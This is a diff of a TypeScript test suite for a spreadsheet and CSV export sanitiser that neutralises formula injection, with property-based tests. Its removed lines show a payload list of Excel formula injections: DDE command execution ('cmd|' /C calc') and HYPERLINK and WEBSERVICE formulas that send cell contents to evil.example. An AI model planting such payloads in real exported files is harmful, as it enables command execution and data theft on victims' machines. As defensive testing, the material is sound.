@@ -1,37 +1,17 @@
 import fc from 'fast-check';
-import { inertText, isDangerous } from '../../src/tables/inert-text';
+import { cleanText, inertCsvText, inertText, isDangerous } from '../../src/tables/inert-text';
+import { cellOf, PAYLOADS, titleOf } from '../hostile/payloads';
+import { withoutMarks } from '../hostile/strict-csv';
 
-/** Known payloads: formula starts of Excel and of programs that open its files, and ways to hide them. */
-const PAYLOADS = [
-  '=1+1',
-  '=HYPERLINK("https://evil.example/?"&A1,"点此")',
-  '=WEBSERVICE("https://evil.example/"&A1)',
-  "=cmd|' /C calc'!A0",
-  "+cmd|' /C calc'!A0",
-  "-2+3+cmd|' /C calc'!A0",
-  '@SUM(1+1)*cmd|" /C calc"!A0',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  ' =1+1',
-  '\u00a0=1+1',
-  '\u200b=1+1',
-  '\ufeff=1+1',
-  '＝1+1',
-  '＋1',
-  '－1',
-  '＠SUM(1)',
-  "'=1+1",
-  '|cmd',
-  '\u0000=1+1',
-  '\u0001@x',
-];
+/** What Excel's typing interface makes of it: an apostrophe is its mark for text, and any text is text in a cell so formatted. */
+function asTyped({ typed, format }: { typed: string; format: string }): { text: string; formula: boolean } {
+  if (format === '@') return { text: typed, formula: false };
+  return typed.startsWith("'") ? { text: typed.slice(1), formula: false } : { text: typed, formula: true };
+}
 
 describe('inertText', () => {
-  test.each(PAYLOADS)('writes %j as text', (payload) => {
-    const { typed, format } = inertText(payload);
-    expect(typed.startsWith("'")).toBe(true);
-    expect(format).toBe('General');
+  test.each(PAYLOADS.map((payload) => [titleOf(payload), payload] as const))('%s', (_title, payload) => {
+    expect(asTyped(inertText(payload.text))).toEqual({ text: cellOf(payload), formula: false });
   });
 
   test.each(['小星 3.0', '0001.HK', '000001', '2031-05', '3/4', '5%-35%', '(1.2)', 'TRUE', '1e5', 'a=b', '甲-W'])(
@@ -45,22 +25,46 @@ describe('inertText', () => {
     expect(inertText('长'.repeat(256))).toEqual({ typed: `'${'长'.repeat(256)}`, format: 'General' });
   });
 
-  test('text too long for a cell is cut with an ellipsis', () => {
-    const { typed } = inertText('长'.repeat(40_000));
-    expect(typed).toHaveLength(1 + 32_767);
-    expect(typed.endsWith('…')).toBe(true);
-  });
-
-  test('characters an .xlsx file cannot hold are dropped', () => {
-    expect(inertText('甲\u0000乙\u001f丙').typed).toBe('甲乙丙');
-  });
-
   test('whatever the text, what is typed never starts like a formula', () => {
     fc.assert(
       fc.property(fc.string({ unit: 'binary' }), (text) => {
         const { typed, format } = inertText(text);
         expect(typed === '' || typed.startsWith("'") || (format === '@' && !isDangerous(typed))).toBe(true);
         expect(/^[=+\-@\t\r]/.test(typed)).toBe(false);
+      }),
+    );
+  });
+});
+
+describe('cleanText', () => {
+  test('cleans once and for all, to what every file can hold', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: 'binary', maxLength: 50 }), (text) => {
+        const clean = cleanText(text);
+        expect(cleanText(clean)).toBe(clean);
+        expect(new TextDecoder('utf-8', { ignoreBOM: true }).decode(new TextEncoder().encode(clean))).toBe(clean);
+        // eslint-disable-next-line no-control-regex -- XML 1.0, production 2: Char
+        expect(clean).not.toMatch(/[^\t\n\u0020-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]/u);
+      }),
+    );
+  });
+});
+
+describe('inertCsvText', () => {
+  /** Pieces a program may take for a cell, whatever it takes for a separator. */
+  const pieces = (text: string): string[] => [text, ...text.split(/[,;|"\t\n]/)];
+
+  test.each(PAYLOADS.map((payload) => [titleOf(payload), payload] as const))('%s', (_title, payload) => {
+    const written = inertCsvText(payload.text);
+    for (const piece of pieces(written)) expect(piece).not.toMatch(/^\s*[=+\-@|]/);
+    expect(written).not.toMatch(/^[=+\-@\t\r\n]/);
+    expect(withoutMarks(written)).toBe(cellOf(payload));
+  });
+
+  test('the original can be told of every text', () => {
+    fc.assert(
+      fc.property(fc.stringMatching(/^[a=+\-@'",;|\t\n \u200b]*$/), (text) => {
+        expect(withoutMarks(inertCsvText(text))).toBe(text);
       }),
     );
   });
